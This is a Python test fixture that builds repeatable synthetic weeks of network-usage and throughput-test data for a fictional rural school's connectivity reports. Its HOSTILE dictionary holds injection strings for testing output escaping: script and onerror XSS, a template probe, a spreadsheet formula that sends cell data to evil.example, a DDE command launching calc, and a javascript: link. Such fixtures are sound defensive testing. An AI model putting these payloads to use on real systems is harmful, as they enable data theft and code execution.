"""Believable weeks of one small rural school, the same on every run.

The base is a school of 412 students whose line delivers less than its contract says: a day profile with
two lessons' peaks and lunch between, a backup at night, the agent off for three hours on Wednesday, the line
down for forty minutes on Thursday, the provider out for twelve on Friday evening, and 28 throughput tests of
which one failed and one isn't trusted.
Each other week changes one thing about it.
"""

from __future__ import annotations

import math
import random
import tomllib
from dataclasses import replace
from datetime import UTC, date, datetime, timedelta
from functools import cache
from importlib.resources import files
from zoneinfo import ZoneInfo

from reports.cost_settings import CostSettings, ErateSettings
from reports.costs import Finance
from reports.evidence import EvidenceRule
from reports.outlook import WeekRates
from reports.periods import SLOT_S, Period, SchoolHours, week_named
from reports.samples import CapacitySample, Outage, Rates, Stretch, UsageSample
from reports.shipped import shipped_prices
from reports.sites import Contract, Site
from reports.targets import TargetSet
from reports.week import WeeklyReport, weekly_report
from reports.what_if import WhatIf

ZONE = ZoneInfo("America/Chicago")
WEEK = week_named("2026-W47", ZONE)
SINCE = datetime(2026, 9, 1, 11, 20, tzinfo=UTC)

SITE = Site(
    id="310042000871",
    name="Bluestem Consolidated School",
    serves="independent-school",
    students=412,
    staff=46,
    timezone="America/Chicago",
)
CONTRACT = Contract(
    down_mbps=250.0,
    up_mbps=50.0,
    provider="Prairie Fiber Cooperative",
    connection="fibre",
    monthly_cost=840.0,
    currency="USD",
    ends_on=date(2027, 6, 30),
)
TARGETS = ("setda-3-2023-24", "setda-2-2020-21", "fcc-2014-long", "fcc-2014-short", "itu-giga-2030")
PAST = tuple(
    WeekRates(
        WEEK.starts_at.date() - timedelta(weeks=104 - n),
        Rates(117.0 * 1.3 ** ((n - 104) / 52) * (1 + 0.04 * math.sin(n)), 11.8 * 1.1 ** ((n - 104) / 52)),
    )
    for n in range(104)
)
"""Two years of weeks in which demand grew by 30 % a year down and 10 % up."""
HOSTILE = {
    "script": "<script>alert(1)</script>",
    "markup": "\"><img src=x onerror=alert(1)> & 'quotes' {{ 7*7 }}",
    "right to left": "مدرسة البستان الابتدائية",
    "emoji": "École des Chênes 🏫🌳",
    "long": "Saint-Something-or-Other " * 8,
    "unbroken": "W" * 200,
    "formula": '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "table": "| a | b |\\n# x [link](javascript:alert(1)) *b* `c` ~~d~~",
}


@cache
def target(name: str) -> TargetSet:
    """A target set as it ships."""
    text = (files("config") / "targets" / f"{name}.toml").read_text(encoding="utf-8")
    return TargetSet.read(tomllib.loads(text), f"{name}.toml:")


def short_of_target() -> WeeklyReport:
    """Delivers a seventh of what is recommended, and less than the contract says."""
    return week()


def meets_target() -> WeeklyReport:
    """The same school with a line of 2 Gbps that delivers nearly all of it."""
    contract = replace(CONTRACT, down_mbps=2000.0, up_mbps=2000.0)
    return week(contract=contract, delivers=(1884.0, 1861.0), demand=3.1)


def too_early() -> WeeklyReport:
    """Tuesday noon of the agent's first week: four tests, no verdict."""
    made_at = WEEK.starts_at + timedelta(days=1, hours=12)
    since = WEEK.starts_at + timedelta(hours=9)
    return week(made_at=made_at, since=since)


def nothing_measured() -> WeeklyReport:
    """An agent that has just been installed, at a school that hasn't told anything."""
    return weekly_report(
        Site(),
        Contract(),
        [target(name) for name in TARGETS],
        EvidenceRule(),
        week_named("2026-W47", ZoneInfo("UTC")),
        [],
        [],
        made_at=WEEK.ends_at,
        measuring_since=None,
    )


def no_contract() -> WeeklyReport:
    """Measured well, but nobody has entered what was bought."""
    return week(contract=Contract())


def no_students() -> WeeklyReport:
    """Measured well, but nobody has entered whom the line serves."""
    return week(site=replace(SITE, students=None, staff=None))


def no_targets() -> WeeklyReport:
    """Measured well and held against nothing."""
    return week(targets=())


def well_known() -> WeeklyReport:
    """Measured for two years, with all that a board asks of costs."""
    return week(
        past=104,
        costs=CostSettings(1900.0, "offer of Prairie Fiber Cooperative, October 2026", 12_000.0, 3.0, 45.0),
        erate=ErateSettings(nslp_share=0.62, locale="rural", decide_by=date(2027, 1, 15)),
    )


def supposed() -> WeeklyReport:
    """The short week with more students on a faster line, and a hundred of them taking a test at once."""
    return week(what_if=WhatIf(students=500, capacity_down_mbps=1000.0, testers=100, kbps=150.0))


def named(name: str) -> WeeklyReport:
    """The short week of a school, provider and server with a name that was meant to break things."""
    name = name[:200].strip()
    report = week(site=replace(SITE, name=name), contract=replace(CONTRACT, provider=name))
    tests = tuple(replace(test, server=name, detail=name if test.reason else None) for test in report.tests)
    return replace(report, tests=tests)


@cache
def week(
    *,
    site: Site = SITE,
    contract: Contract = CONTRACT,
    targets: tuple[str, ...] = TARGETS,
    delivers: tuple[float, float] = (186.0, 46.0),
    demand: float = 1.0,
    made_at: datetime | None = None,
    since: datetime = SINCE,
    past: int = 0,
    costs: CostSettings = CostSettings(),  # noqa: B008  # frozen
    erate: ErateSettings = ErateSettings(),  # noqa: B008
    what_if: WhatIf | None = None,
) -> WeeklyReport:
    """A week of ``site``; ``demand`` scales the usage, ``delivers`` is about what the tests find each way, and
    ``past`` is how many weeks before it are known of."""
    made_at = made_at or WEEK.ends_at + timedelta(hours=6)
    tests = _tests(WEEK, delivers)
    usage = _usage(WEEK, delivers, demand, tests, SchoolHours.of(site))
    return weekly_report(
        site,
        contract,
        [target(name) for name in targets],
        EvidenceRule(),
        WEEK,
        [sample for sample in usage if since <= sample.started_at < made_at],
        [test for test in tests if since <= test.started_at < made_at],
        [outage for outage in _outages(WEEK) if since <= outage.started_at < made_at],
        _probed(WEEK, since, made_at),
        made_at=made_at,
        measuring_since=since,
        weeks=PAST[len(PAST) - past :],
        finance=Finance(costs, erate, *shipped_prices()),
        what_if=what_if,
    )


def _usage(
    period: Period,
    delivers: tuple[float, float],
    demand: float,
    tests: list[CapacitySample],
    hours: SchoolHours,
) -> list[UsageSample]:
    chance = random.Random(47)
    wednesday, thursday = period.starts_at + timedelta(days=2), period.starts_at + timedelta(days=3)
    off = (wednesday + timedelta(hours=11), wednesday + timedelta(hours=14))
    down = (thursday + timedelta(hours=9, minutes=40), thursday + timedelta(hours=10, minutes=20))
    slot = timedelta(seconds=SLOT_S)
    found, swing, at = [], 0.0, period.starts_at
    while at < period.ends_at:
        swing = 0.75 * swing + 0.25 * chance.gauss(0, 1)
        level, sent = _profile(at, hours)
        if off[0] <= at < off[1]:
            at += slot
            continue
        noise = math.exp(0.45 * swing + chance.gauss(0, 0.12))
        rx = min(level * demand * noise, delivers[0] * 0.97)
        tx = min((sent + 0.09 * level) * demand * math.exp(chance.gauss(0, 0.2)), delivers[1] * 0.97)
        dark = down[0] <= at < down[1]
        observed = SLOT_S - sum(_overlap_s(at, at + slot, test) for test in tests)
        if dark:
            rx = tx = 0.0
        found.append(
            UsageSample(
                interface="wan0",
                started_at=at,
                interval_s=observed,
                rx_bytes=int(rx * observed * 125_000),
                tx_bytes=int(tx * observed * 125_000),
                peak_rx_mbps=round(min(rx * chance.uniform(1.1, 1.7), delivers[0]), 3),
                peak_tx_mbps=round(min(tx * chance.uniform(1.1, 1.7), delivers[1]), 3),
                link_down_s=float(SLOT_S) if dark else 0.0,
            )
        )
        at += slot
    return found


def _profile(at: datetime, hours: SchoolHours) -> tuple[float, float]:
    """What such a school takes in and sends out at this time of its day, in Mbit/s."""
    local = at.astimezone(hours.zone)
    clock = local.hour + local.minute / 60
    backup = 26.0 if 1.5 <= clock < 3.25 else 0.0
    if local.weekday() not in hours.days:
        return 3.5 + 2.0 * math.exp(-(((clock - 14) / 4) ** 2)), 0.4 + backup
    lessons = 104 * math.exp(-(((clock - 9.8) / 1.7) ** 2)) + 92 * math.exp(-(((clock - 13.4) / 1.5) ** 2))
    evening = 14 * math.exp(-(((clock - 19.5) / 1.4) ** 2))
    return 4.0 + lessons + evening, 0.6 + backup


def _tests(period: Period, delivers: tuple[float, float]) -> list[CapacitySample]:
    chance = random.Random(4)
    found = []
    for n in range(28):
        day, turn = divmod(n, 4)
        at = period.starts_at + timedelta(days=day, hours=(6.4, 10.0, 13.3, 20.2)[turn])
        at = (at + timedelta(seconds=chance.uniform(0, 900))).replace(microsecond=0)
        busy = turn in (1, 2) and day < 5
        down = round(delivers[0] * chance.uniform(0.9, 1.0) * (0.86 if busy else 1.05), 2)
        up = round(delivers[1] * chance.uniform(0.95, 1.02), 2)
        test = CapacitySample(
            id=f"{n:032x}",
            started_at=at,
            ended_at=at + timedelta(seconds=23),
            engine="bandgap",
            server="measure.esu7.example",
            outcome="ok",
            down_mbps=down,
            up_mbps=up,
            latency_idle_ms=round(chance.uniform(11, 14), 2),
            latency_loaded_ms=round(chance.uniform(38, 62) * (1.6 if busy else 1), 2),
            down_bytes=int(down * 10 * 125_000),
            up_bytes=int(up * 10 * 125_000),
            interface="wan0",
            link_speed_mbps=1000.0,
            other_down_mbps=round(down * (0.31 if busy else 0.004), 2),
            other_up_mbps=0.2,
            jitter_ms=round(0.2 + n / 40, 2),
            retransmitted_share=round(n / 9000, 5),
            load_s=2.3,
        )
        assert test.latency_loaded_ms is not None
        found.append(replace(test, responsiveness_rpm=round(60_000 / test.latency_loaded_ms)))
    dark = found[13]
    found[13] = CapacitySample(
        id=dark.id,
        started_at=dark.started_at,
        ended_at=dark.started_at + timedelta(seconds=2),
        engine="bandgap",
        server=dark.server,
        outcome="no_measurement",
        reason="no_link",
        interface="wan0",
    )
    found[6] = replace(found[6], flags=("not_steady",), down_mbps=round(delivers[0] * 0.49, 2))
    found[3] = replace(found[3], burst_down_mbps=round(delivers[0] * 1.6, 1), load_s=15.0)
    found[5] = replace(found[5], loss_share=0.008, loss_down_share=0.0, loss_up_share=0.008)
    return found


def _outages(period: Period) -> list[Outage]:
    thursday, friday = period.starts_at + timedelta(days=3), period.starts_at + timedelta(days=4)
    dark, cut = thursday + timedelta(hours=9, minutes=40), friday + timedelta(hours=18, minutes=51)
    return [
        Outage(
            dark,
            dark + timedelta(minutes=39),
            dark + timedelta(minutes=40),
            "link",
            "wan0 has no carrier",
        ),
        Outage(
            cut,
            cut + timedelta(minutes=11),
            cut + timedelta(minutes=12),
            "internet",
            "1.1.1.1:443: no answer",
        ),
    ]


def _probed(period: Period, since: datetime, made_at: datetime) -> list[Stretch]:
    """All the time but for Wednesday's three hours."""
    wednesday = period.starts_at + timedelta(days=2)
    first, last = max(since, period.starts_at), min(made_at, period.ends_at)
    parts = [
        Stretch(first, min(last, wednesday + timedelta(hours=11))),
        Stretch(max(first, wednesday + timedelta(hours=14)), last),
    ]
    return [part for part in parts if part.starts_at < part.ends_at]


def _overlap_s(start: datetime, end: datetime, test: CapacitySample) -> float:
    return max(0.0, (min(end, test.ended_at) - max(start, test.started_at)).total_seconds())
